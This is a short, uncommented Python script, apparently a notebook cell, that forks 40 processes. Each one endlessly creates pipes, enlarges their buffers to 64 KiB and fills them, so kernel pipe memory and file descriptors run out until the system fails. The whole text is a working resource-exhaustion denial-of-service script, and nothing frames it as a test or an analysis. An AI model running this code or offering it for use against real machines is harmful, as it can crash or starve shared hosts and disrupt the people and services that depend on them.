# %% start
import fcntl
import os
import time

for _ in range(40):
    if os.fork() == 0:
        try:
            while True:
                _, end = os.pipe()
                os.set_blocking(end, False)
                fcntl.fcntl(end, 1031, 2**16)
                os.write(end, bytes(2**16))
        except OSError:
            time.sleep(100)
time.sleep(100)
